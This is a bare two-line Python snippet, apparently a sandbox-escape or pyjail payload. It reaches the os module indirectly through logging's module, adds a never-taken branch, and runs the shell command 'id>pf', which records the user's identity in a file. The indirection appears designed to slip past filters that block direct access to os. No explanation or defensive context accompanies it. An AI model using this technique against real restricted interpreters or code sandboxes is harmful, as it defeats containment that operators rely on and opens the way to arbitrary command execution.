import inspect, logging
inspect.getmodule(logging.Logger)._os if 0 else inspect.getmodule(logging.Logger).os.system("id>pf")
